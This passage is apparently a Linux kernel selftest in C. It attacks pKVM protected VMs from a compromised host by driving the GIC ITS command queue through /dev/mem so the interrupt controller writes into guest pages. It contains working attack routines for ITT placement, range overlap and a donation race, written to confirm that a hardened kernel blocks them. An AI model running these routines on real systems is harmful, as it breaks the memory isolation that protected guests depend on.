// SPDX-License-Identifier: GPL-2.0-only
/*
 * pkvm_its_attack - A compromised host attacks protected VMs through the
 * GICv3/v4 ITS and the redistributors' LPI tables.
 *
 * pKVM does not trust the host kernel, yet on an unmodified kernel the host
 * drives the ITS and the redistributors directly. Both write to memory by
 * physical address: the ITS writes Device Table entries, Collection Table
 * entries, ITEs and vPE entries wherever the host's commands and table
 * registers point, and a redistributor sets pending bits in the table that
 * GICR_PENDBASER names. None of this goes through a stage-2 translation, so
 * a host that knows where a protected VM (pVM) lives can make the GIC write
 * into it.
 *
 * Each test case below is one such attack, carried out the way a root user
 * in a compromised host would do it: through /dev/mem (the ITS control frame,
 * the redistributors, the ITS command queue and tables), with the physical
 * address of the pVM's pages taken from /proc/self/pagemap once the guest has
 * faulted them in. The same cases, run on a kernel that isolates the ITS,
 * must then find every attack blocked.
 *
 * The victim of each case is a fresh pVM that fills its pages with a canary,
 * exits to the host, and once the attack is over re-reads the canary and
 * reports whether it changed. After each case, the test also checks that the
 * system still works: an MSI of a virtio device is delivered (bytes are read
 * from /dev/hwrng, within a timeout, and the ITS MSI counts in
 * /proc/interrupts grow), the host's ITS driver still gets its commands
 * executed (an interrupt's affinity is changed, which makes the driver send
 * MOVI and SYNC), and another pVM runs.
 *
 * For every case, the test prints one line
 *
 *   ATTACK <name> kernel=<base|series> gic=<3|4> mode=<hvhe|nvhe> result=<r>
 *
 * where <r> is "landed" if the victim's canary changed, the victim could no
 * longer run, or the system broke in one of the ways checked above, or, for a
 * case whose last step needs kernel code, if the case saw the hypervisor's own
 * records disagree with the state of the ITS (a "divergence:" line), or, for a
 * case whose harm only shows on hardware, if the GIC took an access or a
 * command that the hypervisor must refuse (an "unchecked:" line); "blocked"
 * if the attack was carried out and neither happened; "n/a" (followed by the
 * reason on a comment line) if this GIC cannot express the attack. The KTAP
 * result of a case is "ok" whenever it could classify the attack, "not ok"
 * only for errors of the test itself.
 *
 * kernel= and mode= come from --kernel/--mode, or else from the kernel
 * command line: pkvmits.kernel=<name>, and nVHE if arm64_sw.hvhe=0 is given.
 * Cases are selected with -t <name> (repeatable, or comma separated), else
 * with pkvmits.attack=<name>[,<name>...] on the kernel command line, all by
 * default; -l lists them.
 *
 * Sending ITS commands behind the host driver's back. The driver owns the
 * command queue and keeps its own write pointer. The test only sends commands
 * when the queue is idle (GITS_CREADR == GITS_CWRITER), and always moves the
 * queue through one whole lap: it fills the queue with SYNC commands, puts its
 * own commands last, and advances GITS_CWRITER in two steps back to where it
 * started. The ITS then stops where the driver expects it, and the driver's
 * next commands go where they would have gone anyway. The cases that change
 * GITS_CTLR, GITS_CBASER, GITS_BASER<n> or GICR_PENDBASER restore them and
 * resynchronise the queue the same way. Cases that keep the system usable on a
 * kernel without protection come first, the ones that may not come last, so
 * that one run of all the cases is meaningful.
 */
#include <dirent.h>
#include <endian.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <limits.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <linux/align.h>
#include <linux/bitfield.h>
#include <linux/sizes.h>

#include "kvm_util.h"
#include "gic.h"
#include "gic_v3.h"
#include "processor.h"
#include "test_util.h"
#include "ucall.h"
#include "vgic.h"

/* QEMU "virt" machine, used when the devicetree does not tell */
#define VIRT_GICD_BASE		0x08000000ULL
#define VIRT_GICR_BASE		0x080a0000ULL
#define VIRT_GICR_SIZE		0x00f60000ULL
#define VIRT_ITS_BASE		0x08080000ULL

#define DT_BASE			"/sys/firmware/devicetree/base"

#define ITS_CTRL_SIZE		SZ_64K
#define ITS_CMD_SIZE		32
#define ITS_TIMEOUT_US		1000000

#define GITS_TYPER_ID_BITS	GENMASK_ULL(12, 8)
#define GITS_TYPER_DEV_BITS	GENMASK_ULL(17, 13)
#define GITS_TYPER_ITT_SIZE	GENMASK_ULL(7, 4)
#define GITS_TYPER_CID_BITS	GENMASK_ULL(35, 32)
#define GITS_TYPER_CIL		BIT_ULL(36)
#define GITS_CREADR_STALLED	BIT(0)
#define GITS_QUEUE_OFFSET	GENMASK(19, 5)
#define GITS_QUEUE_ADDR		GENMASK_ULL(51, 12)
#define GITS_QUEUE_PAGES	GENMASK_ULL(7, 0)
#define GITS_BASER_ADDR_4K	GENMASK_ULL(47, 12)
#define GITS_BASER_PAGES	GENMASK_ULL(7, 0)
#define GITS_RESERVED_END	0x400
#define GITS_IMPDEF_BASE	0xc000

#define GITS_L1E_VALID		BIT_ULL(63)
#define GITS_L1E_ADDR		GENMASK_ULL(51, 12)

#define GICR_PENDBASER_ADDR	GENMASK_ULL(51, 16)
#define GICR_PENDBASER_PTZ	BIT_ULL(62)
#define GICR_PROPBASER_ID_BITS	GENMASK_ULL(4, 0)
#define GICR_PROPBASER_ADDR	GENMASK_ULL(51, 12)
#define GICR_VPENDBASER_ADDR	GENMASK_ULL(51, 16)
#define GICR_VPENDBASER_VALID	BIT_ULL(63)
#define GICR_VLPI_BASE		SZ_128K
#define GICR_FRAME_V3		SZ_128K
#define GICR_FRAME_V4		SZ_256K
#define MAX_RD			64

#define INTID_NONE		1023
#define LPI_BASE		8192

/* QEMU's Device Table entry (IMPLEMENTATION DEFINED) */
#define QEMU_DTE_VALID		BIT_ULL(0)
#define QEMU_DTE_ITT		GENMASK_ULL(49, 6)

/*
 * The victim's target memory: NR_TARGET pages, each of which the guest either
 * touches in phase A (before the host attacks), in phase B (when the attack
 * asks for it), or never (it then stays the host's).
 */
#define TARGET_PAGE_SIZE	SZ_4K
#define NR_TARGET		128
#define TARGET_WORDS		(TARGET_PAGE_SIZE / sizeof(u64))
#define TARGET_MASK_WORDS	(NR_TARGET / 64)
#define TARGET_PAGE		37
#define LATE_PAGE		96
#define LATE_PAGE2		112
#define NR_HOST_PAGES		4

#define CANARY(i)		(0xca9a4e5c00000000ULL | (i))

#define STAGE_A			1
#define STAGE_B			2
#define STAGE_CHECK		3

enum layout {
	LAYOUT_ALL,	/* the guest owns every page from phase A on */
	LAYOUT_ODD,	/* the guest owns the odd pages, the host the even ones */
	LAYOUT_LATE,	/* the guest takes LATE_PAGE and LATE_PAGE2 in phase B */
	LAYOUT_NONE,	/* no victim: the case only says why QEMU cannot run it */
};

/* Which target pages the guest touches in phases A and B */
static u64 guest_touch[2][TARGET_MASK_WORDS];

static bool page_in(const u64 *mask, int page)
{
	return mask[page / 64] & BIT_ULL(page % 64);
}

static void guest_fill(u64 *buf, const u64 *mask)
{
	u64 p, i;

	for (p = 0; p < NR_TARGET; p++) {
		if (!page_in(mask, p))
			continue;
		for (i = 0; i < TARGET_WORDS; i++)
			WRITE_ONCE(buf[p * TARGET_WORDS + i], CANARY(p * TARGET_WORDS + i));
	}
}

static void victim_guest(u64 *buf)
{
	u64 p, i, idx, val, bad = 0, first = 0, first_val = 0;

	guest_fill(buf, guest_touch[0]);
	GUEST_SYNC(STAGE_A);

	guest_fill(buf, guest_touch[1]);
	GUEST_SYNC(STAGE_B);

	for (p = 0; p < NR_TARGET; p++) {
		if (!page_in(guest_touch[0], p) && !page_in(guest_touch[1], p))
			continue;
		for (i = 0; i < TARGET_WORDS; i++) {
			idx = p * TARGET_WORDS + i;
			val = READ_ONCE(buf[idx]);
			if (val == CANARY(idx))
				continue;
			if (!bad++) {
				first = idx;
				first_val = val;
			}
		}
	}

	GUEST_SYNC_ARGS(STAGE_CHECK, bad, first, first_val, 0);
	GUEST_DONE();
}

static void alive_guest(u64 seed)
{
	u64 i, sum = 0;

	for (i = 0; i < 1000; i++)
		sum += seed ^ i;
	GUEST_SYNC(sum);
	GUEST_DONE();
}

/* What the GIC looks like, found once by the parent process */
struct its_table {
	int idx;		/* GITS_BASER<idx>, -1 if none */
	int indirect;
	u64 baser;
	u64 pa;			/* flat or level-1 table */
	u64 size;		/* its size in bytes */
	u32 psz;		/* page size */
	u32 esz;		/* entry size */
	u64 nr_ids;		/* IDs it can hold */
};

static struct {
	u64 its_pa, gicd_pa, gicr_pa, gicr_size, gicr_stride;
	const char *source;
	void *its, *gicd;
	void *rd[MAX_RD];
	u64 rd_pa[MAX_RD];
	u32 rd_cpu[MAX_RD];
	int nr_rd;
	int version;		/* 3 or 4 */
	u64 typer;
	u32 dev_bits, id_bits, cid_bits, ite_size;
	int pta, vlpis, v41;
	int qemu;		/* QEMU's "virt" machine, whose formats are known */
	int unprobed;		/* the kernel did not probe the ITS: nothing programmed */
	u32 cq_slots;
	u64 *cq;
	struct its_table dt, ct, vt;
	u64 rd0_target;		/* RDbase field for redistributor 0 */
	u32 lpi_limit;
	u32 top_devid;		/* highest DeviceID nothing uses */
	u32 my_icid;		/* an unused collection */
} gic;

static int devmem_fd = -1;
static int pagemap_fd = -1;

/* Map @len bytes of physical memory at @pa, uncached */
static void *map_phys(u64 pa, size_t len)
{
	u64 base = pa & ~(u64)(getpagesize() - 1);
	void *p;

	p = mmap(NULL, len + pa - base, PROT_READ | PROT_WRITE, MAP_SHARED, devmem_fd, base);
	if (p == MAP_FAILED)
		return NULL;
	return p + (pa - base);
}

/*
 * Accesses to what the hypervisor may emulate: one plain load or store each.
 * The compiler could fold the address arithmetic of a READ_ONCE() into a load
 * with writeback, which leaves no syndrome (ESR_ELx.ISV = 0) to emulate it by:
 * the access would be refused for how it was encoded, not for what it does.
 */
static u32 rd32(void *base, u64 off)
{
	u32 val = __raw_readl(base + off);

	barrier();
	return val;
}

static u64 rd64(void *base, u64 off)
{
	u64 val = __raw_readq(base + off);

	barrier();
	return val;
}

static void wr32(void *base, u64 off, u32 val)
{
	/* Order earlier stores (e.g. to the command queue) before the register write. */
	dsb(sy);
	__raw_writel(val, base + off);
	barrier();
}

static void wr64(void *base, u64 off, u64 val)
{
	/* As in wr32() */
	dsb(sy);
	__raw_writeq(val, base + off);
	barrier();
}

static u64 now_us(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000000ULL + ts.tv_nsec / 1000;
}

/* Physical address of a page of this process, 0 if unknown */
static u64 virt_to_phys(void *va)
{
	u64 ent;
	off_t off = ((unsigned long)va / getpagesize()) * sizeof(ent);

	if (pread(pagemap_fd, &ent, sizeof(ent), off) != sizeof(ent))
		return 0;
	if (!(ent & BIT_ULL(63)))
		return 0;
	return (ent & GENMASK_ULL(54, 0)) * getpagesize();
}

/*
 * Fault guard: under a kernel that takes the GIC away from the host, host
 * accesses through /dev/mem may fault. Such a fault means that the host was
 * denied that access, which is not an error of the test.
 */
static __thread sigjmp_buf fault_jmp;
static __thread int fault_armed;
static __thread int fault_sig;
static __thread void *fault_addr;

static void fault_handler(int sig, siginfo_t *si, void *uctx)
{
	if (!READ_ONCE(fault_armed)) {
		signal(sig, SIG_DFL);
		return;
	}
	fault_sig = sig;
	fault_addr = si->si_addr;
	WRITE_ONCE(fault_armed, 0);
	siglongjmp(fault_jmp, 1);
}

static void install_fault_handler(void)
{
	struct sigaction sa = {
		.sa_sigaction = fault_handler,
		.sa_flags = SA_SIGINFO | SA_NODEFER,
	};

	TEST_ASSERT(!sigaction(SIGSEGV, &sa, NULL), "sigaction(SIGSEGV)");
	TEST_ASSERT(!sigaction(SIGBUS, &sa, NULL), "sigaction(SIGBUS)");
}

/*
 * Run @fn(@arg), returning the signal if a guarded access faulted, else 0.
 * Calls nest: the caller's guard is back in place on return.
 */
static int guarded(void (*fn)(void *arg), void *arg)
{
	int was_armed = READ_ONCE(fault_armed), sig = 0;
	sigjmp_buf outer;

	memcpy(outer, fault_jmp, sizeof(outer));
	if (sigsetjmp(fault_jmp, 1)) {
		sig = fault_sig;
	} else {
		WRITE_ONCE(fault_armed, 1);
		fn(arg);
	}
	memcpy(fault_jmp, outer, sizeof(outer));
	WRITE_ONCE(fault_armed, was_armed);
	return sig;
}

/* ITS commands */
struct its_cmd {
	u64 raw[4];
};

static void cmd_init(struct its_cmd *c, u8 op, u32 devid)
{
	memset(c, 0, sizeof(*c));
	c->raw[0] = op | (u64)devid << 32;
}

static void cmd_sync(struct its_cmd *c, u64 target)
{
	cmd_init(c, GITS_CMD_SYNC, 0);
	c->raw[2] = target << 16;
}

static void cmd_mapd(struct its_cmd *c, u32 devid, u64 itt, u32 size, bool valid)
{
	cmd_init(c, GITS_CMD_MAPD, devid);
	c->raw[1] = size & 0x1f;
	c->raw[2] = (itt & GENMASK_ULL(51, 8)) | (u64)valid << 63;
}

static void cmd_mapc(struct its_cmd *c, u32 icid, u64 target, bool valid)
{
	cmd_init(c, GITS_CMD_MAPC, 0);
	c->raw[2] = icid | ((target << 16) & GENMASK_ULL(51, 16)) | (u64)valid << 63;
}

static void cmd_mapti(struct its_cmd *c, u32 devid, u32 event, u32 intid, u32 icid)
{
	cmd_init(c, GITS_CMD_MAPTI, devid);
	c->raw[1] = event | (u64)intid << 32;
	c->raw[2] = icid;
}

static void cmd_event(struct its_cmd *c, u8 op, u32 devid, u32 event)
{
	cmd_init(c, op, devid);
	c->raw[1] = event;
}

static void cmd_vmapp(struct its_cmd *c, u32 vpeid, u64 target, u64 vpt, u32 vpt_size,
		      bool valid)
{
	cmd_init(c, GITS_CMD_VMAPP, 0);
	c->raw[1] = (u64)vpeid << 32;
	c->raw[2] = ((target << 16) & GENMASK_ULL(51, 16)) | (u64)valid << 63;
	c->raw[3] = (vpt & GENMASK_ULL(51, 16)) | (vpt_size & 0x1f);
}

static void cmd_vmapti(struct its_cmd *c, u32 devid, u32 event, u32 vpeid, u32 vintid,
		       u32 doorbell)
{
	cmd_init(c, GITS_CMD_VMAPTI, devid);
	c->raw[1] = event | (u64)vpeid << 32;
	c->raw[2] = vintid | (u64)doorbell << 32;
}

/* Command queue access, as a root user does it: behind the driver's back */
static u32 queue_slot(u32 reg)
{
	return FIELD_GET(GITS_QUEUE_OFFSET, reg);
}

static void queue_put(u32 slot, const struct its_cmd *c)
{
	u64 *p = gic.cq + (slot % gic.cq_slots) * (ITS_CMD_SIZE / sizeof(u64));
	int i;

	for (i = 0; i < 4; i++)
		WRITE_ONCE(p[i], c->raw[i]);
}

/* Wait until the ITS has read up to @slot. */
static int its_wait_read(u32 slot)
{
	u64 end = now_us() + ITS_TIMEOUT_US;
	u32 creadr;

	for (;;) {
		creadr = rd32(gic.its, GITS_CREADR);
		if (queue_slot(creadr) == slot)
			return 0;
		if (creadr & GITS_CREADR_STALLED)
			return -EIO;
		if (now_us() > end)
			return -ETIMEDOUT;
		sched_yield();
	}
}

/* Wait until the queue is idle, and return where the driver will write next. */
static int its_wait_idle(u32 *slot)
{
	u64 end = now_us() + ITS_TIMEOUT_US;
	u32 cwriter, creadr;

	for (;;) {
		cwriter = rd32(gic.its, GITS_CWRITER);
		creadr = rd32(gic.its, GITS_CREADR);
		if (queue_slot(cwriter) == queue_slot(creadr) && !(creadr & GITS_CREADR_STALLED)) {
			*slot = queue_slot(cwriter);
			return 0;
		}
		if (now_us() > end)
			return creadr & GITS_CREADR_STALLED ? -EIO : -ETIMEDOUT;
		sched_yield();
	}
}

/*
 * Fill @count slots from @from: SYNCs, then the @n commands of @tail. Then
 * move GITS_CWRITER past them and wait for the ITS.
 */
static int its_post(u32 from, u32 count, const struct its_cmd *tail, u32 n)
{
	struct its_cmd sync;
	u32 i, to = (from + count) % gic.cq_slots;

	cmd_sync(&sync, gic.rd0_target);
	for (i = 0; i < count - n; i++)
		queue_put(from + i, &sync);
	for (i = 0; i < n; i++)
		queue_put(from + count - n + i, &tail[i]);

	wr32(gic.its, GITS_CWRITER, to * ITS_CMD_SIZE);
	return its_wait_read(to);
}

/* Move the ITS from slot @from to slot @to through SYNC commands. */
static int its_sync_to(u32 from, u32 to)
{
	u32 q = gic.cq_slots, count;
	int r;

	while (from != to) {
		count = min((to + q - from) % q, q / 2);
		r = its_post(from, count, NULL, 0);
		if (r)
			return r;
		from = (from + count) % q;
	}
	return 0;
}

/*
 * Send @n commands through the host driver's queue, during one whole lap, so
 * that the queue ends where the driver expects it. The commands end up just
 * before that slot.
 */
static int __its_send(const struct its_cmd *cmds, u32 n)
{
	u32 q = gic.cq_slots, half = q / 2, w;
	int r;

	r = its_wait_idle(&w);
	if (!r)
		r = its_post(w, half, NULL, 0);
	if (!r)
		r = its_post((w + half) % q, q - half, cmds, n);
	return r;
}

static int its_ctlr_set(bool enable)
{
	u32 ctlr = rd32(gic.its, GITS_CTLR);
	u64 end = now_us() + ITS_TIMEOUT_US;

	if (enable) {
		wr32(gic.its, GITS_CTLR, ctlr | GITS_CTLR_ENABLE);
		return 0;
	}

	wr32(gic.its, GITS_CTLR, ctlr & ~GITS_CTLR_ENABLE);
	while (!(rd32(gic.its, GITS_CTLR) & GITS_CTLR_QUIESCENT)) {
		if (now_us() > end)
			return -ETIMEDOUT;
		sched_yield();
	}
	return 0;
}

/* Result of a case, handed from the child that ran it to the parent */
enum case_status {
	CASE_RAN,
	CASE_NA,
	CASE_ERROR,
};

struct case_result {
	int status;
	int victim_changed;
	int victim_lost;
	int denied;		/* signal a host access raised */
	int its_failed;		/* the ITS did not complete commands */
	int donation_refused;
	int diverged;		/* the hypervisor's records and the ITS disagree */
	int unchecked;		/* the GIC took what the hypervisor must refuse */
	u64 bad, first, val;
	char reason[256];
};

struct victim {
	struct kvm_vm *vm;
	struct kvm_vcpu *vcpu;
	u8 *hva;
	u64 pa[NR_TARGET];	/* physical address of each target page */
	u64 touch[2][TARGET_MASK_WORDS];
	int stage;		/* last stage the guest reached */
	u64 bad, first, val;	/* what the guest found at STAGE_CHECK */
};

struct attack_ctx {
	struct case_result *res;
	struct victim v;
	u32 devid;
	u32 lpi;
	u8 *host;		/* NR_HOST_PAGES pages of the host, pinned */
	u64 host_pa[NR_HOST_PAGES];

	/* state to put back if the attack is interrupted */
	int ctlr_off;
	int baser_idx;
	u64 baser_saved;
	int cbaser_changed;
	u64 cbaser_saved;
	u32 cq_slot_saved;
	void *pendbaser_rd;
	u64 pendbaser_saved;
	u64 *l1e;
	u64 l1e_saved;
};

static __printf(3, 4) void case_set(struct attack_ctx *c, int status, const char *fmt, ...)
{
	va_list ap;

	c->res->status = status;
	va_start(ap, fmt);
	vsnprintf(c->res->reason, sizeof(c->res->reason), fmt, ap);
	va_end(ap);
}

static int its_send(struct attack_ctx *c, const struct its_cmd *cmds, u32 n)
{
	int r = __its_send(cmds, n);

	if (r) {
		c->res->its_failed = r;
		ksft_print_msg("ITS did not complete the commands: %s\n", strerror(-r));
	}
	return r;
}

static int its_disable(struct attack_ctx *c)
{
	int r;

	c->ctlr_off = 1;
	r = its_ctlr_set(false);
	if (r)
		ksft_print_msg("ITS not quiescent after disabling it\n");
	return r;
}

static void its_enable(struct attack_ctx *c)
{
	its_ctlr_set(true);
}

/* Victim pVM */
static int victim_run(struct victim *v, u64 stage)
{
	int armed = READ_ONCE(fault_armed);
	struct ucall uc;
	int r = 0;

	WRITE_ONCE(fault_armed, 0);
	if (_vcpu_run(v->vcpu)) {
		r = -errno;
		ksft_print_msg("victim: KVM_RUN failed before stage %lu: %s\n", stage,
			       strerror(errno));
		goto out;
	}

	switch (get_ucall(v->vcpu, &uc)) {
	case UCALL_SYNC:
		if (uc.args[1] != stage) {
			r = -EPROTO;
			break;
		}
		v->stage = stage;
		if (stage == STAGE_CHECK) {
			v->bad = uc.args[2];
			v->first = uc.args[3];
			v->val = uc.args[4];
		}
		break;
	case UCALL_ABORT:
		ksft_print_msg("victim: guest assert at line %lu: %s\n",
			       uc.args[GUEST_LINE], uc.buffer);
		r = -EPROTO;
		break;
	default:
		ksft_print_msg("victim: unexpected exit %s, ucall %lu\n",
			       exit_reason_str(v->vcpu->run->exit_reason), uc.cmd);
		r = -EPROTO;
	}
out:
	WRITE_ONCE(fault_armed, armed);
	return r;
}

/* Refresh the physical addresses of the pages the guest touched in @phase. */
static int victim_update_pa(struct victim *v, int phase)
{
	u64 pa;
	int p;

	for (p = 0; p < NR_TARGET; p++) {
		if (!page_in(v->touch[phase], p))
			continue;
		pa = virt_to_phys(v->hva + p * TARGET_PAGE_SIZE);
		if (!pa)
			return -ENOENT;
		if (pa != v->pa[p])
			ksft_print_msg("victim: page %d moved from 0x%lx to 0x%lx\n",
				       p, v->pa[p], pa);
		v->pa[p] = pa;
	}
	return 0;
}

static void victim_create(struct victim *v, enum layout layout)
{
	gva_t gva;
	int p;

	memset(v, 0, sizeof(*v));
	for (p = 0; p < NR_TARGET; p++) {
		int phase = 0;

		if (layout == LAYOUT_ODD && !(p & 1))
			continue;
		if (layout == LAYOUT_LATE && (p == LATE_PAGE || p == LATE_PAGE2))
			phase = 1;
		v->touch[phase][p / 64] |= BIT_ULL(p % 64);
	}

	v->vm = __vm_create_shape_with_one_vcpu(VM_SHAPE_PROTECTED, &v->vcpu, NR_TARGET + 16,
						victim_guest);
	TEST_ASSERT(v->vm->page_size == TARGET_PAGE_SIZE, "Unexpected guest page size");

	gva = vm_alloc(v->vm, NR_TARGET * TARGET_PAGE_SIZE, KVM_UTIL_MIN_VADDR);
	v->hva = addr_gva2hva(v->vm, gva);
	memcpy(guest_touch, v->touch, sizeof(guest_touch));
	sync_global_to_guest(v->vm, guest_touch);
	vcpu_args_set(v->vcpu, 1, gva);

	/*
	 * The host populates the whole target range, in order, before the guest
	 * runs: every page then has a physical address, the guest takes over the
	 * very page it faults in, and pages next to each other in the range
	 * mostly are physically adjacent too.
	 */
	for (p = 0; p < NR_TARGET; p++) {
		memset(v->hva + p * TARGET_PAGE_SIZE, 0x5a, TARGET_PAGE_SIZE);
		v->pa[p] = virt_to_phys(v->hva + p * TARGET_PAGE_SIZE);
		TEST_ASSERT(v->pa[p], "No physical address in /proc/self/pagemap (not root?)");
	}
}

/* Let the guest take its phase-B pages; a failure means the host refused it. */
static int victim_donate(struct attack_ctx *c)
{
	int r;

	if (c->v.stage >= STAGE_B)
		return 0;
	r = victim_run(&c->v, STAGE_B);
	if (r) {
		c->res->donation_refused = 1;
		return r;
	}
	r = victim_update_pa(&c->v, 1);
	if (r)
		case_set(c, CASE_NA, "no physical address of the guest's new pages in pagemap");
	return r;
}

static void host_pages_init(struct attack_ctx *c)
{
	int i;

	c->host = mmap(NULL, NR_HOST_PAGES * getpagesize(), PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	TEST_ASSERT(c->host != MAP_FAILED, "mmap() of host pages failed");
	TEST_ASSERT(!mlock(c->host, NR_HOST_PAGES * getpagesize()), "mlock() failed");
	memset(c->host, 0, NR_HOST_PAGES * getpagesize());
	for (i = 0; i < NR_HOST_PAGES; i++) {
		c->host_pa[i] = virt_to_phys(c->host + i * getpagesize());
		TEST_ASSERT(c->host_pa[i], "No physical address of a host page");
	}
}

/* Undo whatever an interrupted attack left behind */
static void its_restore(void *arg)
{
	struct attack_ctx *c = arg;
	u32 slot;

	if (c->l1e) {
		WRITE_ONCE(*c->l1e, c->l1e_saved);
		c->l1e = NULL;
	}
	if (c->pendbaser_rd) {
		wr64(c->pendbaser_rd, GICR_PENDBASER, c->pendbaser_saved);
		c->pendbaser_rd = NULL;
	}
	if (c->baser_idx >= 0) {
		its_disable(c);
		wr64(gic.its, GITS_BASER + 8 * c->baser_idx, c->baser_saved);
		c->baser_idx = -1;
	}
	if (c->cbaser_changed) {
		/* GITS_CREADR went back to 0: bring it to the driver's slot. */
		its_disable(c);
		wr64(gic.its, GITS_CBASER, c->cbaser_saved);
		slot = queue_slot(rd32(gic.its, GITS_CREADR));
		wr32(gic.its, GITS_CWRITER, slot * ITS_CMD_SIZE);
		its_enable(c);
		c->cbaser_changed = 0;
		if (its_sync_to(slot, c->cq_slot_saved))
			ksft_print_msg("could not resynchronise the command queue\n");
	}
	if (c->ctlr_off)
		its_enable(c);
}

/*
 * DeviceIDs and LPIs of the cases: per case @k, at the top of what the Device
 * Table and the LPI tables cover, where the host's devices never are.
 */
static void pick_ids(struct attack_ctx *c, int k)
{
	c->devid = gic.top_devid - 2 * k;
	c->lpi = gic.lpi_limit - 1 - k;
}

/* Location of the level-2 entry for @id in an indirect table */
static u64 *table_l1e(struct its_table *t, u64 id)
{
	u64 *l1 = map_phys(t->pa, t->size);
	u64 epp = t->psz / t->esz;

	if (!l1 || id / epp >= t->size / 8)
		return NULL;
	return &l1[id / epp];
}

static u64 *table_entry(struct its_table *t, u64 id)
{
	u64 *l1e, l2;
	u8 *base;

	if (!t->indirect) {
		base = map_phys(t->pa, t->size);
		return base && id < t->nr_ids ? (u64 *)(base + id * t->esz) : NULL;
	}

	l1e = table_l1e(t, id);
	if (!l1e)
		return NULL;
	l2 = READ_ONCE(*l1e);
	if (!(l2 & GITS_L1E_VALID))
		return NULL;
	base = map_phys(l2 & GITS_L1E_ADDR, t->psz);
	return base ? (u64 *)(base + (id % (t->psz / t->esz)) * t->esz) : NULL;
}

/*
 * A guest page that a 64 KiB aligned LPI pending table can reach: LPI IDs
 * below @limit (<= 64K) only reach its first 8 KiB, and LPI 8192 is byte 1024.
 * Return the page, the table base and an INTID whose bit is in the page, in a
 * byte that is zero in the guest's canary.
 */
static int pick_pending_page(struct attack_ctx *c, u32 limit, u64 *table, u32 *intid)
{
	u64 off;
	int p;

	for (p = 0; p < NR_TARGET; p++) {
		if (!page_in(c->v.touch[0], p))
			continue;
		off = c->v.pa[p] & (SZ_64K - 1);
		if (off >= SZ_8K || (off + SZ_2K) * 8 + 5 >= limit)
			continue;
		*table = c->v.pa[p] - off;
		*intid = (off + SZ_2K) * 8 + 5;
		return p;
	}
	return -1;
}

/*
 * Attack: mapd_itt_in_pvm
 *
 * The host sends MAPD with the ITT address of a new device set to a page of
 * the pVM, then MAPTI for an event of that device. The ITS writes the ITE,
 * 12 bytes on QEMU, into the guest's page.
 *
 * The hypervisor must check every MAPD with V=1: the whole ITT range,
 * ITT_addr .. ITT_addr + 2^(Size+1) * ITT entry size, must be memory that the
 * host owns, and it must stay away from any guest or the hypervisor (pinned)
 * for as long as the device is mapped.
 */
static void attack_mapd_itt_in_pvm(void *arg)
{
	struct attack_ctx *c = arg;
	struct its_cmd cmd[3];

	cmd_mapd(&cmd[0], c->devid, c->v.pa[TARGET_PAGE], 0, true);
	cmd_mapti(&cmd[1], c->devid, 0, c->lpi, 0);
	cmd_mapd(&cmd[2], c->devid, 0, 0, false);
	its_send(c, cmd, 3);
}

/*
 * Attack: itt_range_overlap
 *
 * The host sends MAPD with an ITT that starts in its own page, 256 bytes
 * before a page of the pVM that directly follows it in physical memory, and
 * a Size large enough to reach into that page; then MAPTI for an event whose
 * ITE lies in the pVM's page. ITT_addr only needs to be 256-byte aligned, and
 * the ITT spans 2^(Size+1) entries.
 *
 * The hypervisor must check the whole range of the ITT, from ITT_addr to its
 * end, page by page, not just the page ITT_addr is in.
 */
static void attack_itt_range_overlap(void *arg)
{
	struct attack_ctx *c = arg;
	u32 event, size;
	struct its_cmd cmd[3];
	int g = -1, h, p;
	u64 itt;

	/* The guest owns the odd pages: look for one right after a host page. */
	for (p = 1; p < NR_TARGET && g < 0; p += 2) {
		for (h = 0; h < NR_TARGET && g < 0; h += 2)
			if (c->v.pa[h] + TARGET_PAGE_SIZE == c->v.pa[p])
				g = p;
		for (h = 0; h < NR_HOST_PAGES && g < 0; h++)
			if (c->host_pa[h] + getpagesize() == c->v.pa[p])
				g = p;
	}
	if (g < 0) {
		g = 1;
		ksft_print_msg("no host page right before a guest page, ITT ends at 0x%lx\n",
			       c->v.pa[g]);
	} else {
		ksft_print_msg("guest page %d at 0x%lx follows a host page\n", g, c->v.pa[g]);
	}

	itt = c->v.pa[g] - 256;
	event = DIV_ROUND_UP(256, gic.ite_size);
	size = fls(event) - 1;
	ksft_print_msg("ITT at 0x%lx, %u events of %u bytes, event %u at 0x%lx\n", itt,
		       1U << (size + 1), gic.ite_size, event, itt + event * gic.ite_size);

	cmd_mapd(&cmd[0], c->devid, itt, size, true);
	cmd_mapti(&cmd[1], c->devid, event, c->lpi, 0);
	cmd_mapd(&cmd[2], c->devid, 0, 0, false);
	its_send(c, cmd, 3);
}

/*
 * Attack: itt_toctou_donate
 *
 * The host maps a device with its ITT in one of its own pages, which is fine
 * at that time. The page is part of the pVM's memslot (populated by the host,
 * never touched by the guest yet). Then the guest faults the page in, and the
 * host donates it to the pVM. Then the host sends MAPTI: the ITS writes the
 * ITE into what now is the guest's page.
 *
 * The hypervisor must keep ITT pages pinned from the MAPD that maps them until
 * the ITS has executed the MAPD that unmaps the device, and refuse to donate
 * or share them meanwhile.
 */
static void attack_itt_toctou_donate(void *arg)
{
	struct attack_ctx *c = arg;
	u64 itt = c->v.pa[LATE_PAGE];
	struct its_cmd cmd[2];

	cmd_mapd(&cmd[0], c->devid, itt, 0, true);
	if (its_send(c, cmd, 1))
		return;

	if (!victim_donate(c) && c->v.pa[LATE_PAGE] == itt) {
		cmd_mapti(&cmd[0], c->devid, 0, c->lpi, 0);
		cmd_mapd(&cmd[1], c->devid, 0, 0, false);
		its_send(c, cmd, 2);
		return;
	}

	if (c->v.pa[LATE_PAGE] != itt)
		case_set(c, CASE_NA, "the page moved when the guest took it");
	cmd_mapd(&cmd[0], c->devid, 0, 0, false);
	its_send(c, cmd, 1);
}

/*
 * Attack: mapd_remap_bookkeeping
 *
 * Aimed at the hypervisor's records of which pages are ITTs, in two parts.
 *
 * 1. The host maps a device with its ITT in a host page A, then maps it again
 *    (V=1 without V=0 in between) with its ITT in page T of the pVM's memslot
 *    that the guest has not touched yet, then sends a MAPD V=0 that names the
 *    old ITT A and a Size beyond GITS_TYPER.ID_bits. QEMU ignores that MAPD
 *    (out of range Size), the device stays mapped with its ITT in T. The
